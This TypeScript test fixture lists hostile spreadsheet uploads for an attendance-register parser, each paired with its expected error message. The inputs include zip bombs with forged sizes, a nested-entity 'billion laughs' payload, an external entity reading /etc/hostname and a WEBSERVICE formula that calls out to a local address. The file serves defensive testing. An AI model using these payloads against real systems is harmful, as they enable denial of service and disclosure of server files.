import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { strToU8, zipSync } from 'fflate'
import { csv, ods, type Rows, sheetOf, workbook, xlsx, zipped } from './writers.ts'

/** Registers that nobody should have to read. In every one stands a name, which no message may say. */
export const NAME = 'Quillon Vexworth'
export const HEAD = ['CRN', 'Name', 'Session', 'Outcome']
export const ROW = ['Z000001', NAME, 's1', 'ATTC']

/** Saved with a password, or by Excel before 2007, by other programs. */
const refused = (name: string) => () => readFileSync(join(import.meta.dirname, 'refused', name))
const text = (value: string) => `<c t="inlineStr"><is><t>${value}</t></is></c>`
const row = (values: readonly string[], attributes = '') =>
  `<row${attributes}>${values.map(text).join('')}</row>`
const sheet = (inner: string, after = '') =>
  workbook({ sheet: `<worksheet><sheetData>${inner}</sheetData>${after}</worksheet>` })
const odsCell = (inner: string, attributes = '') =>
  `<table:table-cell office:value-type="string"${attributes}>${inner}</table:table-cell>`
const odsRow = (cells: string, attributes = '') => `<table:table-row${attributes}>${cells}</table:table-row>`
const paragraph = (words: string) => `<text:p>${words}</text:p>`
const twice = <One>(one: One): One[] => [one, one]

/** What the directory says of a part's size, put right where it lies. */
function declared(zip: Uint8Array, name: string, size: number): Uint8Array {
  const view = new DataView(zip.buffer, zip.byteOffset, zip.length)
  for (let at = 0; at < zip.length - 46; at += 1) {
    if (view.getUint32(at, true) !== 0x02014b50) continue
    const length = view.getUint16(at + 28, true)
    if (new TextDecoder().decode(zip.subarray(at + 46, at + 46 + length)) === name)
      view.setUint32(at + 24, size, true)
  }
  return zip
}

const SHEET = 'xl/worksheets/sheet1.xml'
const bomb = () => sheet(row(HEAD) + ' '.repeat(30_000_000))
const LAUGHS = `<!DOCTYPE a [<!ENTITY b "${NAME}">${[...'cdefghij']
  .map((letter, at, all) => `<!ENTITY ${letter} "${`&${at === 0 ? 'b' : all[at - 1]};`.repeat(10)}">`)
  .join('')}]>`
const marked = (count: number, mark: string): Rows => [
  ['CRN', 'Name', ...Array.from({ length: 190 }, (_, at) => `Wk ${at + 1}`)],
  ...Array.from({ length: count }, (_, at) => [
    `Z${100_000 + at}`,
    NAME,
    ...Array.from({ length: 190 }, () => mark),
  ]),
]

/** @param told what the first message says */
export const HOSTILE: readonly (readonly [what: string, given: () => string | Uint8Array, told: string])[] = [
  ['a workbook with a password', refused('locked.xlsx'), 'this one is password protected'],
  ['an OpenDocument sheet with a password', refused('locked.ods'), 'this one is password protected'],
  [
    'a sheet that is locked as one part',
    () => zipped({ mimetype: 'x', 'META-INF/manifest.xml': '<m/>', 'encrypted-package': NAME }),
    'this one is password protected',
  ],
  ['an old workbook', refused('old.xls'), 'this is an old Excel file'],
  ['a zip bomb', bomb, 'expected at most 20 megabytes unpacked'],
  ['a zip bomb that says it is small', () => declared(bomb(), SHEET, 1_000), 'it is larger than it says'],
  ['a zip bomb that says it is nothing', () => declared(bomb(), SHEET, 0), 'it is larger than it says'],
  [
    'a part that says it is huge',
    () => declared(sheet(row(HEAD)), SHEET, 0xfffffffe),
    '20 megabytes unpacked',
  ],
  ['a part that says it is larger', () => declared(sheet(row(HEAD)), SHEET, 19_000_000), 'damaged'],
  ['a zip within a zip', () => zipSync({ 'xl/workbook.xml': bomb() }), 'a part of it is damaged'],
  [
    'a million cells in a workbook',
    () => sheet(`<row>${'<c><v>1</v></c>'.repeat(200)}</row>`.repeat(5_000)),
    'expected at most 300,000 cells',
  ],
  [
    'a million cells in an OpenDocument sheet',
    () =>
      sheetOf(
        odsRow(
          odsCell(paragraph(NAME), ' table:number-columns-repeated="200"'),
          ' table:number-rows-repeated="5000"',
        ),
      ),
    'expected at most 300,000 cells',
  ],
  [
    'a cell of very many blanks',
    () => sheetOf(odsRow(odsCell(paragraph(`${NAME}${'<text:s text:c="1000"/>'.repeat(700_000)}`)))),
    'required column missing',
  ],
  [
    'entities within entities',
    () => workbook({ sheet: `${LAUGHS}<worksheet>&j;</worksheet>` }),
    'entities of its own',
  ],
  [
    'entities within entities in an OpenDocument sheet',
    () =>
      zipped({
        mimetype: 'x',
        'content.xml': `${LAUGHS}<office:document-content>&j;</office:document-content>`,
      }),
    'entities of its own',
  ],
  [
    'an entity that names a file',
    () =>
      workbook({
        sheet: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><worksheet>&b;</worksheet>',
      }),
    'entities of its own',
  ],
  [
    'formulas that call out',
    () =>
      sheet(
        `${row(HEAD)}<row>${ROW.slice(0, 3).map(text).join('')}<c><f>WEBSERVICE("http://127.0.0.1:9/${NAME}")</f></c></row>`,
      ),
    'sheet 1, row 2, column D: expected a value; the formula',
  ],
  ['an image', () => Buffer.from(`\x89PNG\r\n\x1a\n${NAME}`, 'latin1'), 'this is an image'],
  ['a Word document', () => zipped({ 'word/document.xml': NAME }), 'this is a Word document'],
  [
    'a file of another kind',
    () => Buffer.from(`\x03\x7e\x00\x00${NAME}\x00,\x00`, 'latin1'),
    'this is no text',
  ],
  ['a workbook cut short', () => xlsx([HEAD, ROW]).slice(0, -40), 'it ends too early'],
  ['an OpenDocument sheet cut in half', () => ods([HEAD, ROW]).slice(0, 300), 'it ends too early'],
  [
    'a workbook whose middle is lost',
    () => {
      const whole = xlsx([HEAD, ROW])
      return whole.fill(0, 400, 480)
    },
    'a part of it is damaged',
  ],
  ['two heads', () => xlsx([HEAD, ROW, HEAD, ROW]), 'sheet 1, row 3: expected the headings once'],
  [
    'two heads side by side',
    () =>
      csv([
        [...HEAD, ...HEAD],
        [...ROW, ...ROW],
      ]),
    'line 1: expected the column "crn" only once',
  ],
  [
    'a head over two columns',
    () =>
      sheet(
        row(['CRN', '', 'Session', 'Outcome']) + row(ROW),
        '<mergeCells><mergeCell ref="A1:B1"/></mergeCells>',
      ),
    'sheet 1, row 1: expected the column "crn" only once',
  ],
  [
    'a merged cell as large as a sheet',
    () =>
      sheet(row(HEAD) + row(ROW).repeat(2_000), '<mergeCells><mergeCell ref="A1:GR200000"/></mergeCells>'),
    'expected',
  ],
  [
    'a megabyte in one cell',
    () => csv([HEAD, ['Z000001', NAME, 's1', NAME.repeat(62_000)]]),
    'line 2, outcome: expected a known word, code or mark; this one is none',
  ],
  [
    'a megabyte in one cell of a workbook',
    () => xlsx([HEAD, ['Z000001', NAME, 's1', NAME.repeat(62_000)]]),
    'sheet 1, row 2, column D: expected',
  ],
  [
    'a megabyte of quotes',
    () => `${HEAD.join(',')}\n${'"",'.repeat(100)}${'"'.repeat(999_001)}${NAME}`,
    'broken CSV',
  ],
  [
    '201 columns',
    () => csv([Array.from({ length: 201 }, () => 'CRN')]),
    'line 1: expected at most 200 columns',
  ],
  [
    '201 columns in a workbook',
    () => sheet('<row r="3"><c r="GS3"><v>1</v></c></row>'),
    'sheet 1, row 3, column GS: expected at most 200 columns',
  ],
  [
    '200,001 rows',
    () => `${HEAD.join()}\n${`${ROW.join()}\n`.repeat(200_001)}`,
    'line 200002: expected at most 200,000 rows',
  ],
  [
    'marks of nobody’s in every cell',
    () => csv(marked(1_000, 'Vexworth')),
    'line 2, column 3: expected a known word or code',
  ],
  [
    'marks that may mean several things in every cell',
    () => xlsx(marked(1_000, 'late')),
    'sheet 1, row 2, column C: expected a mark that means one thing',
  ],
  [
    'rows without anything right',
    () => `${HEAD.join()}\n${`${NAME},,,${NAME}\n`.repeat(50_000)}`,
    'line 2, crn: expected a CRN',
  ],
  [
    'text in an encoding that isn’t known',
    () =>
      Buffer.concat([
        Buffer.from('2b2f7638', 'hex'),
        Buffer.from(
          [...HEAD.join(), 10, ...ROW.join()].map((one) =>
            typeof one === 'number' ? one : one.charCodeAt(0) ^ 0xaa,
          ),
        ),
      ]),
    'required column missing',
  ],
  [
    'UTF-32',
    () =>
      Buffer.from(
        twice('').join('') + [...csv([HEAD, ROW])].map((letter) => `${letter}\0\0\0`).join(''),
        'latin1',
      ),
    'this is no text',
  ],
  [
    'letters that no font has',
    () => csv([HEAD, ['Z000001', `${NAME}\u0081`, 's1', 'ATTC']]),
    'line 2, name: expected',
  ],
  [
    'strings that thousands of cells share',
    () =>
      zipSync({
        ...Object.fromEntries(
          Object.entries({
            'xl/workbook.xml': '<workbook xmlns:r="r"><sheets><sheet r:id="a"/></sheets></workbook>',
            'xl/_rels/workbook.xml.rels': `<r><Relationship Id="a" Type="x/worksheet" Target="worksheets/sheet1.xml"/></r>`,
            'xl/sharedStrings.xml': `<sst><si><t>${NAME.repeat(500_000)}</t></si></sst>`,
            [SHEET]: `<worksheet><sheetData>${`<row>${'<c t="s"><v>0</v></c>'.repeat(150)}</row>`.repeat(3_000)}</sheetData></worksheet>`,
          }).map(([name, xml]) => [name, strToU8(xml)]),
        ),
      }),
    'expected at most 20,000,000 letters in all cells together',
  ],
]
